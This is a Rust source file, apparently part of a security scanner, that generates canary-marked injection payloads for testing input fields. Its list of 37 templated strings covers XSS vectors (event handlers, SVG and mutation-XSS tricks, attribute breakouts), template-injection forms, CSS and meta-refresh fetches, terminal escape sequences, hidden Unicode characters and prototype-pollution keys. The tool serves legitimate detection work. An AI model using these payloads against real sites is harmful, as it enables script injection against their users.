//! The stated list of what is put into every field: one text for each kind of sink and context.

/// A text that does something wherever it is taken for more than text.
pub struct Payload {
    /// The sink or the context that it is for.
    pub name: &'static str,
    pub text: String,
    /// What of it tells on a screen which one it is; no other has it.
    pub marker: String,
}

impl Payload {
    /// Whether it stands in the text, alone or with others.
    pub(super) fn is_in(&self, text: &str) -> bool {
        match self.marker.starts_with('~') {
            true => text.contains(&self.marker),
            false => text.split(' ').any(|word| word == self.text),
        }
    }
}

/// All of them; what can fetch would fetch from that address.
pub(super) fn payloads(address: &str) -> Vec<Payload> {
    let marked = MARKED.iter().map(|(name, form)| {
        let marker = format!("~{name}~");
        // Needs no quotes and no blanks, so that the same words run in every context, in a frame too.
        let script = format!("top.canary=/{marker}/.source");
        let url = format!("http://{address}/{marker}");
        Payload { name, text: form.replace("RUN", &script).replace("URL", &url), marker }
    });
    let bare = BARE.iter().map(|(name, text)| Payload { name, text: (*text).to_owned(), marker: (*text).to_owned() });
    marked.chain(bare).collect()
}

/// The payloads for a place that has room for one string and is seen only a few times: several joined to one, so that
/// each that works only as the beginning of a text is the beginning of one.
pub(super) fn joined(payloads: &[Payload]) -> Vec<String> {
    let (marked, bare) = payloads.split_at(payloads.len().saturating_sub(BARE.len()));
    let beginnings = marked.len().min(BEGINNINGS);
    let groups = (0..beginnings).map(|first| {
        let texts: Vec<_> =
            marked.iter().skip(first).step_by(beginnings).map(|payload| payload.text.as_str()).collect();
        texts.join(" ")
    });
    groups.chain(bare.iter().map(|payload| payload.text.clone())).collect()
}

/// So many of the list work only at the beginning of a text; they stand first.
const BEGINNINGS: usize = 7;

/// `RUN` stands for a script that leaves its name, `URL` for an address that nobody may ask for. Both stand near the
/// beginning, which is what is left of a text that is cut for want of room.
const MARKED: [(&str, &str); 37] = [
    // Addresses, and a value of a style.
    ("javascript-url", "javascript:RUN//"),
    ("javascript-url-odd", "\u{1} jAvA\tscr\nipt\r:RUN//"),
    ("data-html-url", "data:text/html,<script>RUN</script>"),
    ("data-svg-url", "data:image/svg+xml,<svg onload=RUN>"),
    ("plain-url", "URL"),
    ("css-url", "red;background:url(URL)"),
    ("line-separator", "\u{2028}RUN//\u{2029}"),
    // Text of an element that is taken for markup.
    ("element", "<img src=URL onerror=RUN>"),
    ("script-element", "<script>RUN</script>"),
    ("event-handler", "<details open ontoggle=RUN>"),
    ("svg-onload", "<svg onload=RUN>"),
    ("svg-animate-href", "<svg><a><animate attributeName=href values=javascript:RUN /><text>x</text></a></svg>"),
    ("svg-foreign-object", "<svg><foreignObject><img src=URL onerror=RUN></foreignObject></svg>"),
    ("mutation", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=URL onerror=RUN&gt;'>"),
    ("style-end", "</style><script>RUN</script>"),
    ("css-import", "<style>@import 'URL';</style>"),
    ("iframe-srcdoc", "<iframe srcdoc='<script>RUN</script>'></iframe>"),
    ("iframe-javascript", "<iframe src=javascript:RUN></iframe>"),
    ("meta-refresh", "<meta http-equiv=refresh content='0;url=URL'>"),
    ("link", "<link rel='stylesheet prefetch import' href=URL>"),
    ("audio-video", "<audio src=URL autoplay onerror=RUN></audio><video poster=URL src=URL autoplay></video>"),
    ("object-embed", "<object data=URL></object><embed src=URL>"),
    ("form-action", "<form action=javascript:RUN><button formaction=URL autofocus>x</button></form>"),
    // Ways out of an attribute.
    ("double-quote", "\" autofocus onfocus=RUN x=\""),
    ("single-quote", "' autofocus onfocus=RUN x='"),
    ("backtick", "` autofocus onfocus=RUN x=`"),
    ("unquoted", "x autofocus onfocus=RUN tabindex=1"),
    // Languages of templates, and a script that text is pasted into.
    ("mustache", "{{[].at.constructor('RUN')()}}"),
    ("template-literal", "${RUN}"),
    ("server-template", "<%= RUN %>"),
    ("svelte-html", "{@html '<img src=URL onerror=RUN>'}"),
    ("script-end", "\";RUN;//</script><script>RUN</script>"),
    // A selector that is made of text, and what a backslash does to the quote behind it.
    ("selector", "\"],*,[x='URL\\"),
    // Markdown and terminals.
    ("markdown-link", "[x](javascript:RUN)"),
    ("markdown-image", "![x](URL)"),
    ("terminal-link", "\u{1b}]8;;URL\u{7}x\u{1b}]8;;\u{7}\u{1b}[31m\u{9b}2J"),
    ("hidden-characters", "\u{202e}RUN\u{2066}\u{200b}\u{feff}\u{ad}\u{2060}\u{202a}\u{e0041}\u{0}"),
];

/// Names that every object has; they do their harm only when nothing stands beside them.
const BARE: [(&str, &str); 2] = [("prototype", "__proto__"), ("constructor", "constructor")];
